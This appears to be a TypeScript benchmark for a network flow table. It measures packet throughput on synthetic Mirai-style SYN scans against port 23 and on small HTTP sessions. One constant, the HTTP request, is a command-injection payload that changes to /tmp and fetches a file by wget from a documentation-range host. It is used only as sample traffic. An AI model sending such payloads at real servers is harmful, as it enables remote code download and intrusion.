/** @module Benchmark of FlowTable.packet: SYN-only scan traffic and small HTTP connections. */

import { DecodedPacket, TCP_ACK, TCP_FIN, TCP_PSH, TCP_SYN } from "../../src/decode/decoded.js";
import { DEFAULT_FLOW_CONFIG, type FlowSink, FlowTable } from "../../src/decode/flows.js";
import { Anomalies } from "../../src/schema/anomalies.js";
import type { Probe, Session } from "../../src/schema/session.js";

// Addresses from 198.18.0.0/15 (RFC 2544, benchmarking) towards one documentation address.
const SRC_BASE = 0xc6120000;
const DST = 0xcb007105;

/** Consumes records so that nothing is optimised away. */
class CountingSink implements FlowSink {
  probes = 0;
  sessions = 0;
  checksum = 0;
  probe(p: Probe): void {
    this.probes++;
    this.checksum = (this.checksum + p.sport + p.ttl) | 0;
  }
  session(s: Session): void {
    this.sessions++;
    this.checksum = (this.checksum + s.clientBytes.length + (s.http?.requests.length ?? 0)) | 0;
  }
}

export interface FlowBenchResult {
  name: string;
  packets: number;
  /** Packets per second through packet(), and including finish() (emission of what is left). */
  packetsPerSecond: number;
  withFinishPerSecond: number;
  records: number;
}

function v4(p: DecodedPacket, src: number, sport: number, dst: number, dport: number): void {
  p.ipVersion = 4;
  p.src4 = src;
  p.dst4 = dst;
  p.srcKey = src;
  p.dstKey = dst;
  p.sport = sport;
  p.dport = dport;
}

/** `n` SYNs, each of a distinct tuple (50k sources, many source ports each), `gapUs` apart. */
export function benchSyns(n: number, gapUs: number): FlowBenchResult {
  const sink = new CountingSink();
  const table = new FlowTable(DEFAULT_FLOW_CONFIG, sink, new Anomalies(), () => "bench");
  const p = new DecodedPacket();
  p.proto = 6;
  p.tcpFlags = TCP_SYN;
  p.ttl = 52;
  p.window = 14600;
  const t0 = performance.now();
  for (let i = 0; i < n; i++) {
    v4(p, SRC_BASE + (i % 50000), 1024 + Math.floor(i / 50000), DST, 23);
    p.ts = 1.5e15 + i * gapUs;
    p.seq = DST;
    p.ipId = i & 0xffff;
    table.packet(p, "mirai");
  }
  const t1 = performance.now();
  table.finish();
  const t2 = performance.now();
  if (sink.probes !== n) throw new Error(`expected ${n} probes, got ${sink.probes}`);
  return {
    name: `syn-only x${n}, ${gapUs} µs apart`,
    packets: n,
    packetsPerSecond: n / ((t1 - t0) / 1000),
    withFinishPerSecond: n / ((t2 - t0) / 1000),
    records: sink.probes + sink.checksum * 0,
  };
}

const REQUEST =
  "GET /shell?cd+/tmp;wget+http://198.51.100.7/x HTTP/1.1\r\nHost: 203.0.113.5\r\nUser-Agent: Hello, world\r\n\r\n";
const RESPONSE = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n";

function frame(s: string): Uint8Array {
  const b = new Uint8Array(54 + s.length);
  for (let i = 0; i < s.length; i++) b[54 + i] = s.charCodeAt(i);
  return b;
}

/** `n` connections: SYN, SYN-ACK, ACK, request in two segments, response, FIN, FIN, ACK. */
export function benchHttp(n: number): FlowBenchResult {
  const sink = new CountingSink();
  const table = new FlowTable(DEFAULT_FLOW_CONFIG, sink, new Anomalies(), () => "bench");
  const p = new DecodedPacket();
  p.proto = 6;
  p.ttl = 52;
  const empty = new Uint8Array(54);
  const req = frame(REQUEST);
  const res = frame(RESPONSE);
  const half = 20;
  const rest = REQUEST.length - half;
  let packets = 0;
  const send = (
    c2s: boolean,
    i: number,
    ts: number,
    flags: number,
    seq: number,
    data: Uint8Array,
    off: number,
    len: number,
  ) => {
    const src = SRC_BASE + (i % 50000);
    const sport = 1024 + Math.floor(i / 50000);
    if (c2s) v4(p, src, sport, DST, 80);
    else v4(p, DST, 80, src, sport);
    p.ts = ts;
    p.tcpFlags = flags;
    p.seq = seq;
    p.data = data;
    p.payloadOffset = off;
    p.payloadLength = len;
    table.packet(p, flags === TCP_SYN ? "unknown" : "");
    packets++;
  };
  const t0 = performance.now();
  for (let i = 0; i < n; i++) {
    const ts = 1.5e15 + i * 100;
    send(true, i, ts, TCP_SYN, 1000, empty, 54, 0);
    send(false, i, ts + 1, TCP_SYN | TCP_ACK, 5000, empty, 54, 0);
    send(true, i, ts + 2, TCP_ACK, 1001, empty, 54, 0);
    send(true, i, ts + 3, TCP_ACK | TCP_PSH, 1001, req, 54, half);
    send(true, i, ts + 4, TCP_ACK | TCP_PSH, 1001 + half, req, 54 + half, rest);
    send(false, i, ts + 5, TCP_ACK | TCP_PSH, 5001, res, 54, RESPONSE.length);
    send(true, i, ts + 6, TCP_FIN | TCP_ACK, 1001 + REQUEST.length, empty, 54, 0);
    send(false, i, ts + 7, TCP_FIN | TCP_ACK, 5001 + RESPONSE.length, empty, 54, 0);
    send(true, i, ts + 8, TCP_ACK, 1002 + REQUEST.length, empty, 54, 0);
  }
  const t1 = performance.now();
  table.finish();
  const t2 = performance.now();
  if (sink.sessions !== n) throw new Error(`expected ${n} sessions, got ${sink.sessions}`);
  return {
    name: `http x${n} (9 packets each)`,
    packets,
    packetsPerSecond: packets / ((t1 - t0) / 1000),
    withFinishPerSecond: packets / ((t2 - t0) / 1000),
    records: sink.sessions,
  };
}

/** Runs each case three times, interleaved, and prints the median. */
export function runFlowBench(): FlowBenchResult[] {
  const cases = [
    () => benchSyns(1_000_000, 10),
    () => benchSyns(1_000_000, 100),
    () => benchHttp(100_000),
  ];
  const runs: FlowBenchResult[][] = cases.map(() => []);
  for (let r = 0; r < 3; r++) {
    for (let i = 0; i < cases.length; i++) runs[i]?.push((cases[i] as () => FlowBenchResult)());
  }
  const out: FlowBenchResult[] = [];
  for (const rs of runs) {
    rs.sort((a, b) => a.packetsPerSecond - b.packetsPerSecond);
    const m = rs[1] as FlowBenchResult;
    out.push(m);
    console.log(
      `${m.name}: ${(m.packetsPerSecond / 1e6).toFixed(2)} M packets/s (with finish: ${(m.withFinishPerSecond / 1e6).toFixed(2)} M/s)`,
    );
  }
  return out;
}

if (process.argv[1]?.endsWith("flows.js") || process.argv[1]?.endsWith("flows-bench.mjs"))
  runFlowBench();
